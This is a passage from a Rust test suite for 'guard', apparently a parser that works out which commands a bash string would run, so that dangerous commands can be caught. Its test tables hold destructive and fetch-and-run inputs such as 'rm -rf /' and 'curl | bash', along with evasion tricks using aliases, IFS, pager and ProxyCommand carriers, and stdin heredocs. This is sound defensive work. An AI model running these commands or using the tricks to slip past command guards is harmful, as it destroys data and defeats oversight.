    runs!("bash /dev/stdin <<< 'ls'" => ["bash /dev/stdin", "ls @heredoc:bash d=1"]),
    runs!("sh /dev/stdin <<EOF\nrm x\nEOF" => ["sh /dev/stdin", "rm x @heredoc:sh d=1"]),
    runs!("echo 'rm x' | bash /dev/stdin" => ["echo 'rm x'", "bash /dev/stdin", "rm x @pipe:bash d=1"]),
    runs!("cat <<EOF | bash /dev/stdin\nrm x\nEOF" => ["cat", "bash /dev/stdin", "rm x @pipe:bash d=1"]),
    runs!("bash /dev/fd/0 <<< 'rm x'" => ["bash /dev/fd/0", "rm x @heredoc:bash d=1"]),
    runs!("bash /proc/self/fd/0 <<< 'rm x'" => ["bash /proc/self/fd/0", "rm x @heredoc:bash d=1"]),
    runs!("bash /dev//./stdin <<< 'rm x'" => ["bash /dev//./stdin", "rm x @heredoc:bash d=1"]),
    runs!("bash -x /dev/stdin arg <<< 'rm x'" => ["bash -x /dev/stdin arg", "rm x @heredoc:bash d=1"]),
    // Relative paths are read from where the shell runs.
    runs!("bash ../../dev/stdin <<< 'rm x'" => ["bash ../../dev/stdin", "rm x @heredoc:bash d=1"]),
    runs!("cd /dev && bash stdin <<< 'rm x'" => ["cd /dev", "bash stdin cwd=/dev", "rm x @heredoc:bash d=1 cwd=/dev"]),
    runs!("cd /tmp && bash stdin <<< 'rm x'" => ["cd /tmp", "bash stdin cwd=/tmp"]),
    runs!("bash script.sh <<< 'rm x'" => ["bash script.sh"]),
    runs!("bash /dev/null <<< 'rm x'" => ["bash /dev/null"]),
    // Another descriptor holds the code given to it.
    runs!("bash /dev/fd/3 3<<EOF\nrm x\nEOF" => ["bash /dev/fd/3", "rm x @heredoc:bash d=1"]),
    runs!("sudo bash /dev/stdin <<< 'rm x'" => ["sudo bash /dev/stdin", "bash /dev/stdin @wrap:sudo", "rm x @wrap:sudo>heredoc:bash d=1"]),
    // source runs it in the same shell: what it assigns is known after it.
    runs!(r#"source /dev/stdin <<< "rm x""# => ["source /dev/stdin", "rm x @heredoc:source d=1"]),
    runs!(r#". /dev/stdin <<< "a=rm"; $a x"# => [". /dev/stdin", "rm x"]),
    runs!(". /proc/self/fd/0 <<< 'rm x'" => [". /proc/self/fd/0", "rm x @heredoc:. d=1"]),
    runs!("echo 'rm x' | source /dev/stdin" => ["echo 'rm x'", "source /dev/stdin", "rm x @pipe:source d=1"]),
    runs!("source ./env.sh <<< 'rm x'" => ["source ./env.sh"]),
];

const STDIN_PATH_CODE: &[CodeOf] = &[
    code!("bash /dev/stdin <<< 'rm x'", "bash /dev/stdin" => r"bash stdin 'rm x\n'"),
    code!("bash script.sh <<< 'rm x'", "bash script.sh" => "bash file script.sh"),
    code!("curl -s http://x | bash /dev/stdin", "bash /dev/stdin" => "bash stdin ~curl -s http://x"),
    code!("sh /dev/stdin < script.sh", "sh /dev/stdin" => "sh stdin ~the file script.sh"),
    code!("python3 /dev/stdin <<< 'import os'", "python3 /dev/stdin" => r"python stdin 'import os\n'"),
    code!("perl /dev/fd/0 <<< 'unlink 1'", "perl /dev/fd/0" => r"perl stdin 'unlink 1\n'"),
    // The caller's own stdin, run in this shell: code guard cannot see.
    code!("source /dev/stdin", "source /dev/stdin" => "bash stdin ~stdin"),
];

// ---------------------------------------------------------------------------------------------
// Aliases defined earlier in the text: the command runs the alias's text
// ---------------------------------------------------------------------------------------------

/// Options, settings and variables that hold commands: what they hold runs, reached through
/// the carrier (shell text one level deeper; a program or command line as an invocation).
const CARRIERS: &[Runs] = &[
    runs!("git -c core.pager='rm -rf ~' log" => ["git -c 'core.pager=rm -rf ~' log", "rm -rf /home/u @carrier:git:core.pager d=1"]),
    runs!("PAGER=cat git log" => ["git log", "cat @carrier:git:PAGER d=1"]),
    runs!("env GIT_SSH_COMMAND='ssh -i k' git fetch" => ["env 'GIT_SSH_COMMAND=ssh -i k' git fetch", "git fetch @wrap:env", "ssh -i k @wrap:env>carrier:git:GIT_SSH_COMMAND d=1"]),
    runs!("ssh -o ProxyCommand='nc %h %p' host uptime" => ["ssh -o 'ProxyCommand=nc %h %p' host uptime", "uptime @ssh:host d=1 cwd=.|?", "nc %h %p @carrier:ssh:ProxyCommand d=1"]),
    runs!("scp -S /opt/bin/myssh f host:" => ["scp -S /opt/bin/myssh f host:", "/opt/bin/myssh @carrier:scp:-S"]),
    runs!("rsync -e 'ssh -p 2222' -a src host:dst" => ["rsync -e 'ssh -p 2222' -a src host:dst", "ssh -p 2222 @carrier:rsync:-e"]),
    runs!("rsync --rsync-path='sudo rsync' -a src host:dst" => ["rsync '--rsync-path=sudo rsync' -a src host:dst", "sudo rsync @ssh:host d=1 cwd=.|?", "rsync @ssh:host>wrap:sudo d=1 cwd=.|?"]),
    runs!("cd /tmp; tar -cf x.tar --to-command='rm y' d" => ["cd /tmp", "tar -cf x.tar '--to-command=rm y' d cwd=/tmp|/work/proj", "rm y @carrier:tar:--to-command d=1 cwd=/tmp|/work/proj"]),
    runs!("vim -c ':!rm x' f" => ["vim -c ':!rm x' f", "rm x @carrier:vim:-c d=1"]),
    runs!("LD_PRELOAD=./hook.so ./app" => ["./app", "./hook.so @carrier:app:LD_PRELOAD"]),
    runs!(r#"GIT_PAGER="$P" git log"# => ["git log", "‹$P› @carrier:git:GIT_PAGER"]),
];

const ALIASES: &[Runs] = &[
    runs!("shopt -s expand_aliases; alias r=rm\nr victim" => ["shopt -s expand_aliases", "alias r=rm", "r victim", "rm victim @alias:r d=1"]),
    runs!(r#"alias r="rm -rf"; r /"# => ["alias 'r=rm -rf'", "r /", "rm -rf / @alias:r d=1"]),
    runs!("alias l='ls -l'; l /" => ["alias 'l=ls -l'", "l /", "ls -l / @alias:l d=1"]),
    runs!("alias r='rm -rf' l=ls; r / && l" => ["alias 'r=rm -rf' l=ls", "r /", "rm -rf / @alias:r d=1", "l", "ls @alias:l d=1"]),
    // The alias's text is shell code: it may hold several commands, or move the shell.
    runs!("alias r='cd /; rm -rf'; r etc" => ["alias 'r=cd /; rm -rf'", "r etc", "cd / @alias:r d=1", "rm -rf etc @alias:r d=1 cwd=/"]),
    runs!("alias r='cd /'; r; rm -rf etc" => ["alias 'r=cd /'", "r", "cd / @alias:r d=1", "rm -rf etc cwd=/"]),
    // The other words keep their boundaries, unknown parts and globs.
    runs!(r#"alias r=rm; r "$f" *.txt 'a b'"# => ["alias r=rm", "r ‹$f› *.txt 'a b'", "rm ‹$f› *.txt 'a b' @alias:r d=1"]),
    runs!("unalias r; alias r=rm; unalias r; r x" => ["unalias r", "alias r=rm", "unalias r", "r x"]),
    runs!("alias r=rm; unalias -a; r x" => ["alias r=rm", "unalias -a", "r x"]),
    // A definition that may not happen adds a possible value.
    runs!("if c; then alias r=rm; fi; r x" => ["c @branch", "alias r=rm @branch", "r x", "rm x @alias:r d=1"]),
    runs!("alias r=ls; if c; then alias r=rm; fi; r x" => ["alias r=ls", "c @branch", "alias r=rm @branch", "r x", "ls x @alias:r d=1", "rm x @alias:r d=1"]),
    runs!("(alias r=rm); r x" => ["alias r=rm @subshell", "r x", "rm x @alias:r d=1"]),
    runs!("alias r=rm; if c; then unalias r; fi; r x" => ["alias r=rm", "c @branch", "unalias r @branch", "r x", "rm x @alias:r d=1"]),
    // A value only known at run time makes the program unknown.
    runs!(r#"alias r="$X"; r x"# => ["alias r=‹$X›", "r x", "'‹alias r›' x @alias:r"]),
    // An alias is not expanded in its own text; another alias in it is.
    runs!("alias ls='ls --color'; ls x" => ["alias 'ls=ls --color'", "ls x", "ls --color x @alias:ls d=1"]),
    runs!("alias a=b b=rm; a x" => ["alias a=b b=rm", "a x", "b x @alias:a d=1", "rm x @alias:a>alias:b d=2"]),
    // A value ending in a blank makes the next word an alias too.
    runs!("alias s='sudo '; alias r=rm; s r x" => ["alias 's=sudo '", "alias r=rm", "s r x", "sudo rm x @alias:s d=1", "rm x @alias:s>wrap:sudo d=1"]),
    runs!("alias s='sudo'; alias r=rm; s r x" => ["alias s=sudo", "alias r=rm", "s r x", "sudo r x @alias:s d=1", "r x @alias:s>wrap:sudo d=1"]),
    // In a pipeline the alias's text reads the stage's stdin.
    runs!("alias s=sh; echo 'rm x' | s" => ["alias s=sh", "echo 'rm x'", "s", "sh @alias:s d=1", "rm x @alias:s>pipe:sh d=2"]),
    runs!("echo 'rm x' | eval sh" => ["echo 'rm x'", "eval sh", "sh @eval d=1", "rm x @eval>pipe:sh d=2"]),
    // A new shell starts with no aliases; one it defines stays in it.
    runs!("alias r=rm; bash -c 'r x'" => ["alias r=rm", "bash -c 'r x'", "r x @sh:bash d=1"]),
    runs!("bash -c 'alias r=rm; r x'; r y" => ["bash -c 'alias r=rm; r x'", "alias r=rm @sh:bash d=1", "r x @sh:bash d=1", "rm x @sh:bash>alias:r d=2", "r y"]),
    runs!("eval 'alias r=rm'; r x" => ["eval 'alias r=rm'", "alias r=rm @eval d=1", "r x", "rm x @alias:r d=1"]),
    runs!("alias -p; alias r; r x" => ["alias -p", "alias r", "r x"]),
];

// ---------------------------------------------------------------------------------------------
// The directory each command runs in (`cwd=` in the rendering: `.` is where guard was asked
// about, `|` separates the directories it may be, `?` one guard cannot name)
// ---------------------------------------------------------------------------------------------

const DIRECTORIES: &[Runs] = &[
    runs!("cd ~/.config && rm -rf guard" => ["cd /home/u/.config", "rm -rf guard cwd=/home/u/.config"]),
    runs!("cd /usr && rm -rf lib" => ["cd /usr", "rm -rf lib cwd=/usr"]),
    runs!("cd /; rm -rf etc" => ["cd /", "rm -rf etc cwd=/"]),
    runs!("cd sub && make" => ["cd sub", "make cwd=/work/proj/sub"]),
    runs!("cd /work/proj && ls" => ["cd /work/proj", "ls"]),
    runs!("env -C ~/.config/guard rm test.yaml" => ["env -C /home/u/.config/guard rm test.yaml", "rm test.yaml @wrap:env cwd=/home/u/.config/guard"]),
    runs!("env -C sub ls" => ["env -C sub ls", "ls @wrap:env cwd=/work/proj/sub"]),
    runs!("cd /x; env -C .. ls" => ["cd /x", "env -C .. ls cwd=/x|/work/proj", "ls @wrap:env cwd=/|/work"]),
    // A cd may fail (the directory need not exist): then the shell is still where it was.
    runs!("cd /tmp/x; rm -rf .git" => ["cd /tmp/x", "rm -rf .git cwd=/tmp/x|/work/proj"]),
    runs!("cd /x && cd y && rm z; rm w" => ["cd /x", "cd y cwd=/x", "rm z cwd=/x/y", "rm w cwd=/x/y|/x|/work/proj"]),
    runs!("cd /x || exit 1; rm y" => ["cd /x", "exit 1 cwd=/x|/work/proj", "rm y cwd=/x"]),
    runs!("cd /x || { echo no; exit 1; }; rm y" => ["cd /x", "echo no cwd=/x|/work/proj", "exit 1 cwd=/x|/work/proj", "rm y cwd=/x"]),
    runs!("cd /x || echo no; rm y" => ["cd /x", "echo no cwd=/x|/work/proj", "rm y cwd=/x|/work/proj"]),
    runs!("set -e; cd /x; rm y" => ["set -e", "cd /x", "rm y cwd=/x"]),
    runs!("set -eu -o pipefail; cd /x; set +e; cd /y; rm z" => ["set -eu -o pipefail", "cd /x", "set +e cwd=/x", "cd /y cwd=/x", "rm z cwd=/y|/x"]),
    runs!("cd .. && cd .. && rm x" => ["cd ..", "cd .. cwd=/work", "rm x cwd=/"]),
    runs!("cd; rm x" => ["cd", "rm x cwd=/home/u|/work/proj"]),
    runs!("cd ''; rm x" => ["cd ''", "rm x"]),
    runs!("cd /a /b; rm x" => ["cd /a /b", "rm x"]),
    runs!("cd -P -- /x && rm y" => ["cd -P -- /x", "rm y cwd=/x"]),
    runs!("command cd /x && rm y" => ["command cd /x", "cd /x @wrap:command", "rm y cwd=/x"]),
    runs!("builtin cd /x && rm y" => ["builtin cd /x", "cd /x @wrap:builtin", "rm y cwd=/x"]),
    runs!("command -v cd && rm y" => ["command -v cd", "rm y"]),
    runs!("{cd,/}; rm -rf etc" => ["cd / @err", "rm -rf etc cwd=/|/work/proj"]),
    // Unknown directories.
    runs!(r#"cd "$X"; rm y"# => ["cd ‹$X›", "rm y cwd=.|?"]),
    runs!(r#"cd "$X" && cd sub && rm y"# => ["cd ‹$X›", "cd sub cwd=.|?", "rm y cwd=.|?"]),
    runs!(r#"cd "$X"; cd /tmp && rm y"# => ["cd ‹$X›", "cd /tmp cwd=.|?", "rm y cwd=/tmp"]),
    runs!("cd -; rm y" => ["cd -", "rm y cwd=.|?"]),
    runs!("cd /a; cd /b; cd - && rm y" => ["cd /a", "cd /b cwd=/a|/work/proj", "cd - cwd=/b|/a|/work/proj", "rm y cwd=/a"]),
    runs!("popd; rm y" => ["popd", "rm y cwd=.|?"]),
    runs!("pushd /x && rm a; popd; rm b" => ["pushd /x", "rm a cwd=/x", "popd cwd=/x|/work/proj", "rm b cwd=.|/x"]),
    runs!("pushd +1; rm y" => ["pushd +1", "rm y cwd=.|?"]),
    runs!("CDPATH=/; cd etc && rm -rf x" => ["cd etc", "rm -rf x cwd=/etc|/work/proj/etc"]),
    runs!("CDPATH=/; cd ./etc && rm -rf x" => ["cd ./etc", "rm -rf x cwd=/work/proj/etc"]),
    // A subshell, pipeline stage, background job or substitution keeps its cd to itself.
    runs!("(cd /x && rm a); rm b" => ["cd /x @subshell", "rm a @subshell cwd=/x", "rm b"]),
    runs!("cd /x | cat; rm b" => ["cd /x", "cat", "rm b"]),
    runs!("cd /x & rm b" => ["cd /x @bg", "rm b"]),
    runs!("echo $(cd / && rm -rf etc); rm z" => ["echo '‹$(cd / && rm -rf etc)›'", "cd / @sub", "rm -rf etc @sub cwd=/", "rm z"]),
    runs!("cd /x $(rm y)" => ["cd /x '‹$(rm y)›'", "rm y @sub"]),
    runs!("cd /x && echo $(rm y)" => ["cd /x", "echo '‹$(rm y)›' cwd=/x", "rm y @sub cwd=/x"]),
    // Branches, loops, functions and traps.
    runs!("if c; then cd /x; fi; rm y" => ["c @branch", "cd /x @branch", "rm y cwd=/x|/work/proj"]),
    runs!("for d in a b; do cd $d && rm x; done" => ["cd a @loop", "rm x @loop cwd=/work/proj/a", "cd b @loop cwd=/work/proj/a|/work/proj", "rm x @loop cwd=/work/proj/a/b|/work/proj/b"]),
    runs!("while true; do rm x; cd ..; done" => ["true @loop cwd=.|?", "rm x @loop cwd=.|?", "cd .. @loop cwd=.|?"]),
    runs!("while true; do rm x; done" => ["true @loop", "rm x @loop"]),
    runs!("f() { rm -rf etc; }; cd /; f" => ["rm -rf etc @fn:f cwd=.|?", "cd /", "f #fn cwd=/"]),
    runs!("f() { rm x; }; f" => ["rm x @fn:f", "f #fn"]),
    runs!("f() { cd /; }; f; rm -rf etc" => ["cd / @fn:f cwd=.|?", "f #fn", "rm -rf etc cwd=.|?"]),
    runs!("trap 'cd /' DEBUG; rm -rf etc" => ["trap 'cd /' DEBUG", "cd / @trap d=1 cwd=.|?", "rm -rf etc cwd=.|?"]),
    runs!("source ./env.sh; rm -rf build" => ["source ./env.sh", "rm -rf build cwd=.|?"]),
    runs!("source /dev/stdin <<< 'cd /'; rm -rf etc" => ["source /dev/stdin", "cd / @heredoc:source d=1", "rm -rf etc cwd=/"]),
    runs!("source /dev/stdin <<< 'cd /x'; rm y" => ["source /dev/stdin", "cd /x @heredoc:source d=1", "rm y cwd=/x|/work/proj"]),
    runs!("eval 'cd /x' && rm y" => ["eval 'cd /x'", "cd /x @eval d=1", "rm y cwd=/x|/work/proj"]),
    // A new shell starts where it is started; its own cd stays in it.
    runs!("cd /tmp && bash -c 'cd /; rm -rf etc'; rm z" => ["cd /tmp", "bash -c 'cd /; rm -rf etc' cwd=/tmp", "cd / @sh:bash d=1 cwd=/tmp", "rm -rf etc @sh:bash d=1 cwd=/", "rm z cwd=/tmp|/work/proj"]),
    runs!("env -C /srv bash -c 'rm x; echo $PWD'" => ["env -C /srv bash -c 'rm x; echo $PWD'", "bash -c 'rm x; echo $PWD' @wrap:env cwd=/srv", "rm x @wrap:env>sh:bash d=1 cwd=/srv", "echo /srv @wrap:env>sh:bash d=1 cwd=/srv"]),
    // Wrappers that start the command elsewhere; `git -C` moves only git.
    runs!("sudo -D /srv rm x" => ["sudo -D /srv rm x", "rm x @wrap:sudo cwd=/srv"]),
    runs!("sudo --chdir=/srv rm x" => ["sudo --chdir=/srv rm x", "rm x @wrap:sudo cwd=/srv"]),
    runs!("sudo -i rm x" => ["sudo -i rm x", "rm x @wrap:sudo cwd=/root"]),
    runs!("sudo -iu bob rm x" => ["sudo -iu bob rm x", "rm x @wrap:sudo cwd=/srv/bob"]),
    runs!(r#"sudo -u "$U" -i rm x"# => ["sudo -u ‹$U› -i rm x", "rm x @wrap:sudo cwd=.|?"]),
    runs!("sudo -u bob rm x" => ["sudo -u bob rm x", "rm x @wrap:sudo"]),
    runs!("su - bob" => ["su - bob", "‹$SHELL› @wrap:su cwd=/srv/bob"]),
    runs!("runuser -l bob -c 'rm x'" => ["runuser -l bob -c 'rm x'", "rm x @sh:runuser d=1 cwd=/srv/bob"]),
    runs!("runuser -u bob rm x" => ["runuser -u bob rm x", "rm x @wrap:runuser"]),
    runs!("nsenter --wd=/srv -t 1 rm x" => ["nsenter --wd=/srv -t 1 rm x", "rm x @wrap:nsenter cwd=/srv"]),
    runs!("unshare --wd /srv rm x" => ["unshare --wd /srv rm x", "rm x @wrap:unshare cwd=/srv"]),
    runs!("unshare -R /mnt rm x" => ["unshare -R /mnt rm x", "rm x @wrap:unshare cwd=.|?"]),
    runs!("systemd-run rm -rf etc" => ["systemd-run rm -rf etc", "rm -rf etc @wrap:systemd-run cwd=/"]),
    runs!("systemd-run --user rm x" => ["systemd-run --user rm x", "rm x @wrap:systemd-run cwd=/home/u"]),
    runs!("systemd-run --working-directory=/var --uid bob rm x" => ["systemd-run --working-directory=/var --uid bob rm x", "rm x @wrap:systemd-run cwd=/var"]),
    runs!("systemd-run -p WorkingDirectory=-/srv rm x" => ["systemd-run -p WorkingDirectory=-/srv rm x", "rm x @wrap:systemd-run cwd=/srv"]),
    runs!("systemd-run -H host rm x" => ["systemd-run -H host rm x", "rm x @wrap:systemd-run cwd=.|?"]),
    runs!("bwrap --bind / / --chdir /home rm -rf x" => ["bwrap --bind / / --chdir /home rm -rf x", "rm -rf x @wrap:bwrap cwd=/home"]),
    runs!("find . -okdir rm {} \\;" => ["find . -okdir rm {} ;", "rm ‹{}› @find cwd=.|?"]),
    runs!("git -C /srv clean -fdx" => ["git -C /srv clean -fdx"]),
];

/// Built at run time: nesting deeper than the limit, inputs past the size and count limits.
#[test]
fn limits_are_recorded() {
    // `bash -c` nested ten deep, each level quoting the next: read down to the depth limit,
    // and the rest is recorded as not read.
    let mut code = "rm x".to_string();
    for _ in 0..10 {
        code = format!("bash -c {}", guard::shell::shell_quote(&code));
    }
    check_issues(&code, Want::TooDeep, &[]).unwrap();
    let deep = plan(&code);
    let max = guard::shell::Limits::default().max_depth;
    assert_eq!(deep.invocations.iter().map(|i| i.depth).max(), Some(max), "{}", dump(&deep));
    assert!(!deep.invocations.iter().any(|i| argv(i) == "rm x"), "{}", dump(&deep));

    let mut big = String::from("rm x\n#");
    big.push_str(&"a".repeat(1 << 20));
    check_issues(&big, Want::TooLarge, &["rm x"]).unwrap();

    let many = ":;".repeat(20_001);
    check_issues(&many, Want::TooMany, &[":"]).unwrap();

    // Substitutions nested thousands deep: the first hundred levels are read, the rest is
    // recorded as too deep, and the work stays small.
    let nested = format!("{}rm x{}", "echo $(".repeat(3000), ")".repeat(3000));
    let p = plan(&nested);
    assert!(p.issues.iter().any(|i| i.kind == guard::plan::IssueKind::TooDeep), "{}", dump(&p));
    assert!(p.invocations.len() <= 102, "{} invocations", p.invocations.len());
    assert!(!p.invocations.iter().any(|i| argv(i) == "rm x"));
}

/// Nothing makes the parser panic, and every span stays inside the text.
#[test]
fn garbage_does_not_panic() {
    let inputs = [
        ")))",
        "((((",
        "}}}",
        "{{{",
        "$((",
        "$(",
        "`",
        "<<",
        "<<<",
        "|||",
        ";;;",
        "&&&",
        "$'\\",
        "\"$(\"",
        "${",
        "${{}}",
        "\\",
        "'",
        "\"",
        "\0",
        "\u{feff}rm x",
        "((a)",
        "[[ ",
        "]] ]]",
        "case",
        "esac",
        "done",
        "fi",
        "then",
        "$",
        "${#",
        "<(",
        ">(",
        "a=(",
        "a=(b",
        "f() (",
        "function",
        "if",
        "for",
        "for ((",
        "<<EOF",
        "<<'EOF'\nx",
        "cat <<EOF |",
        "echo $'\\x",
        "echo $'\\u12",
        "{a,b",
        "{1..",
        "{1..99999999999999999999}",
        "~\u{0}",
        "echo \u{1F600} | sh",
        "eval \"'\"",
        "bash -c \"'\"",
        "sh <<< '('",
        "echo '(' | sh",
        "x=\\",
        "\r\n\r\n",
        "\t",
        "#",
        "!",
        "! !",
        "time",
        "coproc",
        "select x in a; do",
        "[[ $(",
        "echo ${a[",
        "echo $((1+))",
        "echo {a..z..0}",
    ];
    for text in inputs {
        let plan = plan(text);
        for inv in &plan.invocations {
            assert!(inv.span.end <= text.len() && inv.span.start <= inv.span.end, "{text:?}: bad span {:?}", inv.span);
        }
        for issue in &plan.issues {
            assert!(issue.span.end <= text.len(), "{text:?}: bad issue span {:?}", issue.span);
        }
    }
}

/// Statements run in text order, and the plan lists them that way.
#[test]
fn top_level_statements_are_listed_in_order() {
    for (text, want) in [
        ("rm a; rm b; rm c", vec!["rm a", "rm b", "rm c"]),
        ("rm a && rm b || rm c", vec!["rm a", "rm b", "rm c"]),
        ("rm a\nls\nrm c", vec!["rm a", "ls", "rm c"]),
        ("rm a | rm b | rm c", vec!["rm a", "rm b", "rm c"]),
    ] {
        let plan = plan(text);
        assert_eq!(invocations(&plan), want, "{text:?}");
    }
}

/// `Invocation::id` indexes `Plan::invocations`, and parents come before their children.
#[test]
fn ids_and_parents_are_consistent() {
    for text in
        ["sudo env nice rm x", "bash -c \"eval 'rm x'\"", "echo rm x | sudo sh", "find . -exec sh -c 'rm x' \\;"]
    {
        let plan = plan(text);
        for (i, inv) in plan.invocations.iter().enumerate() {
            assert_eq!(inv.id, i, "{text:?}: {}", invocation(inv));
            if let Some(p) = inv.parent {
                assert!(p < i, "{text:?}: parent {p} of #{i} comes after it");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Known failures: correct (bash) expectations the parser does not meet yet, each with the likely
// cause. Run with `cargo test --test parser_table -- --ignored`; when one passes, move it to the
// table it belongs in.
// ---------------------------------------------------------------------------------------------

const KNOWN_FAILING: &[&dyn Check] = &[
    // A partly quoted delimiter quotes the whole body; the grammar misses the delimiter.
    &runs!("cat <<E'O'F\n$(rm x)\nEOF" => ["cat"]),
    // `;` after the heredoc start: the grammar fails and recovery reads the body as commands.
    &runs!("cat <<EOF; rm y\nbody\nEOF" => ["cat", "rm y"]),
    // Two heredocs on one command: the second body is read as commands.
    &runs!("cat <<A <<B\nrm a\nA\nrm b\nB" => ["cat"]),
    // --- Redirects ---
    // tree-sitter-bash has no `<>` operator: it reads `<` plus an ERROR.
    &redir!("cat <> f", "cat" => ["<> f"]),
];

/// Cases where tree-sitter-bash misreads bash (`{rm,-rf,/}`, `$"…"`, stray keywords) or where
/// bash's run-time rules decide (function definition order, exported variables reaching child
/// shells, IFS, `cd ..`, wrappers that take options after operands), and the parser follows bash.
const GAPS_CLOSED: &[&dyn Check] = &[
    // tree-sitter-bash drops a lone `-` before a heredoc; bash passes it to the program.
    &runs!("python3 - <<EOF\nimport os\nEOF" => ["python3 -"]),
    &runs!("bash - <<EOF\nrm x\nEOF" => ["bash -", "rm x @heredoc:bash d=1"]),
    &runs!("eval 'a=rm'; $a x" => ["eval a=rm", "rm x"]),
    // --- Words ---
    &runs!("{rm,-rf,/}" => ["rm -rf / @err"]),
    &runs!(r#"echo $"hi""# => ["echo hi"]),
    &runs!("make PREFIX=~/bin" => ["make PREFIX=/home/u/bin"]),
    &runs!("IFS=,; a=rm,-rf,/; $a" => ["rm -rf /"]),
    &runs!("cd ..; echo $PWD" => ["cd ..", "echo /work cwd=/work"]),
    // --- Functions ---
    &runs!("f() { g; }; g() { rm x; }; f" => ["g @fn:f #fn", "rm x @fn:g", "f #fn"]),
    &runs!("f() { rm x; }; sudo f" => ["rm x @fn:f", "sudo f", "f @wrap:sudo"]),
    &runs!("f() { rm x; }; command f" => ["rm x @fn:f", "command f", "f @wrap:command"]),
    &runs!("f() { rm x; }; bash -c f" => ["rm x @fn:f", "bash -c f", "f @sh:bash d=1"]),
    // --- Compound commands ---
    &runs!("[ -f x ] && rm x" => ["[ -f x ]", "rm x"]),
    &has!("coproc rm x" => ["rm x @bg"]),
    // --- Heredocs ---
    &runs!("cat <<EOF\nhello `rm x` and $(rm y)\nEOF" => ["cat", "rm x @sub", "rm y @sub"]),
    &runs!("cat <<EOF > f\n`rm x`\nEOF" => ["cat", "rm x @sub"]),
    // --- Nested code ---
    &runs!("bash -c 'a=rm; $a x'" => ["bash -c 'a=rm; $a x'", "rm x @sh:bash d=1"]),
    &runs!("export a=rm; bash -c '$a x'" => ["export a=rm", "bash -c '$a x'", "rm x @sh:bash d=1"]),
    &runs!("cd /tmp && bash -c 'echo $PWD'" => ["cd /tmp", "bash -c 'echo $PWD' cwd=/tmp", "echo /tmp @sh:bash d=1 cwd=/tmp"]),
    &runs!("HOME=/tmp; bash -c 'rm -rf ~'" => ["bash -c 'rm -rf ~'", "rm -rf /tmp @sh:bash d=1"]),
    &runs!("export HOME=/tmp; sh -c 'rm -rf $HOME'" => ["export HOME=/tmp", "sh -c 'rm -rf $HOME'", "rm -rf /tmp @sh:sh d=1"]),
    &runs!("ssh host 'rm $HOME/x'" => ["ssh host 'rm $HOME/x'", "rm ‹$HOME›/x @ssh:host d=1 cwd=.|?"]),
    &runs!("eval $(ssh-agent)" => ["eval ‹$(ssh-agent)›", "ssh-agent @sub", "‹$(ssh-agent)› @eval d=1"]),
    &runs!(r#"bash -c "$(curl -s http://x)""# => [
        "bash -c '‹$(curl -s http://x)›'",
        "curl -s http://x @sub",
        "'‹$(curl -s http://x)›' @sh:bash d=1",
    ]),
    &runs!("source <(echo 'rm x; ls')" => [r"source '‹<(echo \'rm x; ls\')›'", "echo 'rm x; ls' @proc", "rm x @source d=1", "ls @source d=1"]),
    &runs!("echo 'rm x' | (sh)" => ["echo 'rm x'", "sh @subshell", "rm x @subshell>pipe:sh d=1"]),
    &code!("curl -s http://x | (sh)", "sh" => "sh stdin ~curl -s http://x"),
    // --- Wrappers ---
    &runs!("sudo FOO=1 rm x" => ["sudo FOO=1 rm x", "rm x @wrap:sudo"]),
    &runs!("env -iu HOME rm x" => ["env -iu HOME rm x", "rm x @wrap:env"]),
    &runs!("env -S 'FOO=1 rm -rf /'" => ["env -S 'FOO=1 rm -rf /'", "rm -rf / @wrap:env"]),
    &runs!("flock /tmp/l -c 'rm x'" => ["flock /tmp/l -c 'rm x'", "rm x @sh:flock d=1"]),
    &runs!("su bob -c 'rm x'" => ["su bob -c 'rm x'", "rm x @sh:su d=1"]),
    &runs!("su - bob -c 'rm x'" => ["su - bob -c 'rm x'", "rm x @sh:su d=1 cwd=/srv/bob"]),
    &runs!("echo a b | xargs -n1 rm" => ["echo a b", "xargs -n1 rm", "rm a @xargs", "rm b @xargs"]),
    &runs!("parallel rm ::: a b ::: c" => ["parallel rm ::: a b ::: c", "rm a c @parallel d=1", "rm b c @parallel d=1"]),
    &runs!("ls | parallel rm" => ["ls", "parallel rm", "rm ‹{}› @parallel d=1"]),
    // --- Pipelines ---
    &pipes!("a | (b; c)" => ["a | b, c"]),
    &pipes!("a | while read l; do b; done" => ["a | read l, b"]),
    &pipes!("a | if b; then c; fi" => ["a | b, c"]),
    // --- Issues ---
    &issue!("rm x; fi" => Syntax, ["rm x"]),
    &issue!("eval 'rm x; fi'" => Syntax, ["rm x"]),
];

#[test]
fn compound_commands() {
    run_table("compound", COMPOUND);
}

#[test]
fn word_resolution() {
    run_table("word", WORDS);
}

#[test]
fn wrappers() {
    run_table("wrapper", WRAPPERS);
}

#[test]
fn nested_code() {
    run_table("nested", NESTED);
}

#[test]
fn heredocs_as_data() {
    run_table("heredoc", HEREDOCS);
}

#[test]
fn code_records() {
    run_table("code", CODE);
}

#[test]
fn pipelines() {
    run_table("pipeline", PIPES);
}

#[test]
fn pipeline_neighbours() {
    run_table("upstream/downstream", STREAMS);
}

#[test]
fn redirects() {
    run_table("redirect", REDIRECTS);
}

#[test]
fn dynamic_reasons() {
    run_table("dynamic", DYNAMIC);
}

#[test]
fn glob_flags() {
    run_table("glob", GLOBS);
}

#[test]
fn parents() {
    run_table("parent", PARENTS);
}

#[test]
fn assignments() {
    run_table("assignment", ASSIGNS);
}

#[test]
fn issues() {
    run_table("issue", ISSUES);
}

#[test]
fn wrapper_options() {
    run_table("wrapper option", WRAPPER_OPTIONS);
}

#[test]
fn new_wrappers() {
    run_table("new wrapper", NEW_WRAPPERS);
}

#[test]
fn stdin_paths() {
    run_table("stdin path", STDIN_PATHS);
    run_table("stdin path code", STDIN_PATH_CODE);
}

#[test]
fn aliases() {
    run_table("alias", ALIASES);
}

#[test]
fn carriers() {
    run_table("carrier", CARRIERS);
}

#[test]
fn directories() {
    run_table("directory", DIRECTORIES);
}

#[test]
fn gaps_closed() {
    let failures: Vec<String> = GAPS_CLOSED.iter().filter_map(|c| c.check().err()).collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n\n{}",
        failures.len(),
        GAPS_CLOSED.len(),
        failures.join("\n\n")
    );
}

#[test]
#[ignore = "parser gaps: correct expectations the parser does not meet yet"]
fn known_failing() {
    let failures: Vec<String> = KNOWN_FAILING.iter().filter_map(|c| c.check().err()).collect();
    let fixed: Vec<&str> = KNOWN_FAILING.iter().filter(|c| c.check().is_ok()).map(|c| c.text()).collect();
    assert!(
        failures.is_empty(),
        "{} of {} known failures still fail (now passing, move to their table: {fixed:?}):\n\n{}",
        failures.len(),
